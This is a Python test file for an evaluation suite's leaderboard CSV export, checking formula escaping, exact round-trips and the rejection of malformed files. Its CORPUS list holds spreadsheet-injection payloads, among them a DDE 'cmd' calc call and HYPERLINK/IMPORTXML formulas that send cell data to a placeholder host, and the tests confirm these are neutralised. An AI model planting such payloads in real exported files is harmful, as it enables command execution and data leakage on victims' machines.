import csv
import math

import pandas as pd
import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from evalsuite.errors import BadInput
from evalsuite.leaderboard import COLUMNS, NUMERIC
from evalsuite.leaderboard_csv import guard, read_leaderboard, unguard, write_leaderboard

BOOLEAN = {"higher_is_better", "tied_with_best"}
DANGEROUS = "=+-@\t\r\n\0＝＋－＠"

# security.md row 6: what a spreadsheet would run, fetch or reinterpret.
CORPUS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?leak="&A1,"click")',
    '=IMPORTXML(CONCAT("http://x.example?v=",A1),"//a")',
    "+1+1",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "   \t@x",
    " \0=1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "\tplain",
    "\rplain",
    "'=1+1",
    "''=1+1",
    "' =1+1",
    '"=1+1"',
    '=1+1";=1+1',
    "=1+1,=2+2",
]
TEXTS = st.text(st.characters(exclude_categories=["Cs"]), max_size=12) | st.text(
    f"{DANGEROUS}' a\",;", max_size=6
)


def frame_of(*rows):
    full = [dict.fromkeys(COLUMNS) | row for row in rows]
    return pd.DataFrame(full, columns=list(COLUMNS), dtype=object)


def begins_a_formula(text):
    stripped = text.lstrip()
    return text[:1] in set(DANGEROUS) - {""} or stripped[:1] in set(DANGEROUS) - {""}


@given(TEXTS)
@example("'=")
@example("''+")
def test_guarding_is_undone_exactly(text):
    assert unguard(guard(text)) == text


@given(TEXTS, TEXTS)
@example("=", "'=")
def test_two_texts_are_never_guarded_into_one(a, b):
    assert (guard(a) == guard(b)) == (a == b)


@given(TEXTS)
def test_a_guarded_text_never_begins_a_formula(text):
    assert not text or not begins_a_formula(guard(text))


@given(st.text("abc ,;'\"0123456789äß.:/?&", max_size=12))
def test_a_harmless_text_is_left_as_it_is(text):
    assert guard(text) == text


@pytest.mark.parametrize("text", CORPUS)
def test_every_known_attack_is_guarded_in_the_file_and_read_back_whole(tmp_path, text):
    file = tmp_path / "board.csv"
    write_leaderboard(frame_of({"model": text, "estimate": -0.5}), file)
    with file.open(encoding="utf-8", newline="") as opened:
        (row,) = list(csv.DictReader(opened, strict=True))
    if begins_a_formula(text):
        assert row["model"] == "'" + text
    assert not begins_a_formula(row["model"])
    assert row["estimate"] == "-0.5"
    assert read_leaderboard(file)["model"].tolist() == [text]


floats = st.floats(allow_nan=False, allow_infinity=False)
numbers = floats | st.integers(-(2**63), 2**63)
rows = st.fixed_dictionaries(
    {
        name: st.none()
        | (numbers if name in NUMERIC else st.booleans() if name in BOOLEAN else TEXTS)
        for name in COLUMNS
    }
)


@settings(
    deadline=None,
    max_examples=40,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(st.lists(rows, max_size=3))
def test_a_whole_leaderboard_is_read_back_as_it_was_written(tmp_path_factory, table):
    file = tmp_path_factory.getbasetemp() / "board.csv"
    write_leaderboard(frame_of(*table), file)
    found = read_leaderboard(file)
    assert tuple(found.columns) == COLUMNS
    assert len(found) == len(table)
    for written, read in zip(table, found.to_dict("records"), strict=True):
        for name, value in written.items():
            # An empty text cannot be told from nothing: empty means unknown.
            expected = None if value == "" else value
            assert read[name] == expected
            assert type(read[name]) is type(expected)


@pytest.mark.parametrize(
    "value", [0.1 + 0.2, 1 / 3, -1e-300, 5e-324, 1.7976931348623157e308, -0.0, 2.0, 1e22, 123456.7]
)
def test_a_float_stands_in_full_precision(tmp_path, value):
    file = tmp_path / "board.csv"
    write_leaderboard(frame_of({"estimate": value}), file)
    (found,) = read_leaderboard(file)["estimate"]
    assert math.copysign(1, found) == math.copysign(1, value)
    assert found == value
    assert isinstance(found, float)


@pytest.mark.parametrize("seed", [0, 2**53 + 1, 2**62 - 1])
def test_a_seed_keeps_all_its_digits(tmp_path, seed):
    file = tmp_path / "board.csv"
    write_leaderboard(frame_of({"seed": seed}), file)
    assert read_leaderboard(file)["seed"].tolist() == [seed]


def test_the_header_and_the_line_ends_are_those_of_rfc_4180(tmp_path):
    file = tmp_path / "board.csv"
    write_leaderboard(frame_of({"model": 'a "b", c\nd\r\ne', "task": "t"}), file)
    data = file.read_bytes().decode("utf-8")
    assert data.startswith(",".join(COLUMNS) + "\r\n")
    assert data.endswith("\r\n")
    assert '"a ""b"", c\nd\r\ne"' in data


def test_pandas_and_the_csv_module_read_the_same(tmp_path):
    file = tmp_path / "board.csv"
    table = [
        {"model": 'q"uo,te', "task": "zwei\nZeilen ü 日本", "estimate": -0.125, "seed": 7},
        {"model": "=1+1", "task": "t", "higher_is_better": True, "se": 1e-9, "seed": 8},
    ]
    write_leaderboard(frame_of(*table), file)
    by_pandas = pd.read_csv(file)
    with file.open(encoding="utf-8", newline="") as opened:
        by_csv = list(csv.DictReader(opened, strict=True))
    assert tuple(by_pandas.columns) == tuple(by_csv[0]) == COLUMNS
    assert by_pandas["model"].tolist() == [r["model"] for r in by_csv] == ['q"uo,te', "'=1+1"]
    assert by_pandas["task"][0] == by_csv[0]["task"] == "zwei\nZeilen ü 日本"
    assert by_pandas["estimate"][0] == float(by_csv[0]["estimate"]) == -0.125
    assert math.isnan(by_pandas["estimate"][1])
    assert by_csv[1]["estimate"] == by_csv[0]["higher_is_better"] == ""
    assert by_pandas["seed"].tolist() == [7, 8]
    assert by_csv[1]["higher_is_better"] == "true"


GOOD = ",".join(COLUMNS)
EMPTY = "," * (len(COLUMNS) - 1)


def with_cell(name, text):
    return GOOD + "\r\n" + ",".join(text if c == name else "" for c in COLUMNS) + "\r\n"


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        ("", "its columns differ"),
        ("a,b\r\n1,2\r\n", "its columns differ"),
        (GOOD.replace("task,mode", "mode,task"), "its columns differ"),
        (f"{GOOD}\r\n{EMPTY},\r\n", "row 2: 41 cells instead of 40"),
        (f"{GOOD}\r\n{EMPTY}\r\n\r\n", "row 3: 0 cells instead of 40"),
        (f'{GOOD}\r\n"open', "cannot be read as a leaderboard"),
        (f'{GOOD}\r\n"a"b{EMPTY}', "cannot be read as a leaderboard"),
        (with_cell("estimate", "high"), "row 2: estimate is 'high', not a number"),
        (with_cell("estimate", "nan"), "row 2: estimate is 'nan', not a number"),
        (with_cell("estimate", "inf"), "row 2: estimate is 'inf', not a number"),
        (with_cell("estimate", "1_000"), "row 2: estimate is '1_000', not a number"),
        (with_cell("estimate", " 1"), "row 2: estimate is ' 1', not a number"),
        (with_cell("seed", "9" * 5000), "not a number"),
        (with_cell("higher_is_better", "TRUE"), "'TRUE', neither true nor false"),
        (with_cell("tied_with_best", "1"), "'1', neither true nor false"),
    ],
    ids=range(15),
)
def test_a_file_that_is_no_leaderboard_is_refused_with_its_place(tmp_path, content, problem):
    file = tmp_path / "board.csv"
    file.write_bytes(content.encode())
    with pytest.raises(BadInput, match=problem) as caught:
        read_leaderboard(file)
    assert str(caught.value).startswith(str(file))


def test_a_file_that_is_not_utf8_or_not_there_is_refused(tmp_path):
    (tmp_path / "latin").write_bytes(GOOD.encode() + b"\r\n\xe9")
    for name in ("latin", "nothing"):
        with pytest.raises(BadInput, match="cannot be read as a leaderboard"):
            read_leaderboard(tmp_path / name)


def test_an_empty_leaderboard_is_a_header(tmp_path):
    file = tmp_path / "board.csv"
    write_leaderboard(frame_of(), file)
    assert file.read_bytes() == (GOOD + "\r\n").encode()
    assert read_leaderboard(file).empty
